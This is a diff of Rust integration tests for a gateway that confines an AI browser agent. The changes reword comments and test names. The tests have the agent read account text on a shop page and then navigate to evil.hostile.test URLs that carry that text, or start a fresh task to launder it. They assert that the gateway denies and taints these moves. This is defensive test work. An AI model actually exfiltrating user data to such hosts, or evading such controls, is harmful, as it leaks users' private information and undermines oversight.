@@ -1,4 +1,4 @@
-//! What an agent leaves behind by ending a task and beginning another one: nothing that counts.
+//! An agent cannot gain anything by ending a task and starting another one.
 
 use std::time::{Duration, Instant};
 
@@ -24,7 +24,7 @@ const FORM: &str = "<title>Shop</title><form action=/to method=post><input name=
     <p>Your account: membership violet heron nineteen</p>";
 
 #[tokio::test(flavor = "multi_thread")]
-async fn what_was_read_in_an_account_is_not_carried_into_the_next_task() {
+async fn text_of_an_account_is_not_carried_into_the_next_task() {
     let stage = Stage::set_up().await.expect("run `cargo xtask setup` first");
     let site = Site::start(&stage, &["shop.hostile.test", "evil.hostile.test"]).await;
     site.put("shop.hostile.test/", FORM);
@@ -34,13 +34,13 @@ async fn what_was_read_in_an_account_is_not_carried_into_the_next_task() {
     with_browser(guard(&log, WILLING), site.browser(&stage), settings, async |client: &mut Client| {
         client.begin("2025-11-25").await;
         let shop = json!({ "url": "https://shop.hostile.test/" });
-        // Looked at without anything of the user's: what it says is everybody's.
+        // The page was read without any value of the user, so its text is public.
         assert_eq!(client.call("browser_navigate", shop.clone()).await.text, "ok");
         client.call("browser_snapshot", json!({})).await;
         let words = "https://evil.hostile.test/?q=membership+violet+heron";
         client.call("browser_close", json!({})).await;
         assert_eq!(client.call("browser_navigate", json!({ "url": words })).await.text, "ok");
-        // The same page with something of the user's in its container.
+        // The same page with a value of the user in its container.
         let plan = json!({ "origins": ["https://shop.hostile.test"], "plan": "PLAN.address\nPLAN.end" });
         assert!(client.call("portcullis_plan", plan.clone()).await.text.contains("container: T2"));
         assert_eq!(client.call("browser_navigate", shop).await.text, "ok");
@@ -52,12 +52,12 @@ async fn what_was_read_in_an_account_is_not_carried_into_the_next_task() {
         client.call("browser_close", json!({})).await;
         let carried = client.call("browser_navigate", json!({ "url": words })).await;
         assert!(carried.is_error && carried.text.contains("DENY.verb"), "{carried:?}");
-        // Nor typed, nor after another task in between.
+        // The value cannot be typed either, even after another task in between.
         client.call("portcullis_plan", plan).await;
         let evil = json!({ "url": "https://evil.hostile.test/" });
         client.call("browser_close", json!({})).await;
         assert_eq!(client.call("browser_navigate", evil).await.text, "ok");
-        // On a public page links can be followed, but not to an address that says what was read.
+        // Links of a public page can be followed, but no address that contains text of the account.
         let path = |words: &str| json!({ "url": format!("https://evil.hostile.test/{words}") });
         assert_eq!(client.call("browser_navigate", path("something/else/altogether")).await.text, "ok");
         let carried = client.call("browser_navigate", path("membership/violet/heron")).await;
@@ -78,7 +78,7 @@ const TASK: &str = "Order a kettle at https://shop.hostile.test and have it sent
                     94704 Berkeley. Email ada@lane.example.";
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_guess_is_remembered_and_the_user_is_not_asked_without_end() {
+async fn guesses_are_recorded_and_questions_are_limited() {
     let stage = Stage::set_up().await.unwrap();
     let site = Site::start(&stage, &["shop.hostile.test"]).await;
     site.put("shop.hostile.test/", "<title>Shop</title><textarea aria-label=Chat></textarea>");
@@ -98,7 +98,7 @@ async fn a_guess_is_remembered_and_the_user_is_not_asked_without_end() {
         let hit = client.call("browser_type", says("is it Berkeley?")).await;
         assert!(hit.text.contains("egress_blocked"), "{hit:?}");
         client.call("browser_close", json!({})).await;
-        // Another container, and the same agent.
+        // Another container with the same agent.
         let next = client.call("browser_navigate", shop.clone()).await;
         assert!(next.text.contains("tainted_session"), "{next:?}");
         client.call("browser_close", json!({})).await;
@@ -114,7 +114,7 @@ async fn a_guess_is_remembered_and_the_user_is_not_asked_without_end() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_task_that_cannot_be_begun_ends_nothing() {
+async fn a_task_that_cannot_start_does_not_end_the_current_one() {
     let stage = Stage::set_up().await.unwrap();
     let site = Site::start(&stage, &["shop.hostile.test"]).await;
     site.put("shop.hostile.test/", "<title>Shop</title><p>tea</p>");
@@ -122,7 +122,7 @@ async fn a_task_that_cannot_be_begun_ends_nothing() {
     let settings = GatewaySettings { snapshots: Snapshots::OnRequest, ..GatewaySettings::default() };
     with_browser(guard(&log, WILLING), site.browser(&stage), settings, async |client: &mut Client| {
         client.begin("2025-11-25").await;
-        // More sites than a question can show: the last ones would be agreed to unseen.
+        // A question cannot show that many sites, so the user would agree to the last ones unseen.
         let mut sites: Vec<String> = (0..8).map(|number| format!("https://n{number}.example")).collect();
         let plan = |sites: &[String]| json!({ "origins": sites, "plan": "PLAN.address\nPLAN.end" });
         assert!(client.call("portcullis_plan", plan(&sites)).await.text.contains("container: T2"));
@@ -140,9 +140,9 @@ async fn a_task_that_cannot_be_begun_ends_nothing() {
     verify_text(&log.text()).unwrap();
 }
 
-/// What playwright-mcp tells of a page is the page's word as well: it is not carried elsewhere.
+/// The page's text in answers of playwright-mcp is tainted too: it cannot be carried to another site.
 #[tokio::test(flavor = "multi_thread")]
-async fn what_a_page_wrote_to_the_console_stays_with_it() {
+async fn console_text_is_tainted_like_the_page() {
     let stage = Stage::set_up().await.unwrap();
     let site = Site::start(&stage, &["shop.hostile.test", "evil.hostile.test"]).await;
     let page = "<title>Shop</title><script>console.log('membership violet heron nineteen')</script>";
@@ -159,10 +159,10 @@ async fn what_a_page_wrote_to_the_console_stays_with_it() {
         assert!(client.call("portcullis_plan", sites).await.text.contains("container: T0"));
         let shop = json!({ "url": "https://shop.hostile.test/" });
         client.call("browser_navigate", shop.clone()).await;
-        // playwright-mcp is started by its first call, and hears of what is written from then on.
+        // playwright-mcp starts at its first call, and records the console from then on.
         client.call("browser_console_messages", json!({ "level": "info" })).await;
         client.call("browser_navigate", shop).await;
-        // It names the file in which it keeps what it heard, once it has heard it.
+        // It names the file of its console messages once it has some.
         let began = Instant::now();
         let sized = loop {
             let sized = client.call("browser_resize", json!({ "width": 900, "height": 700 })).await;
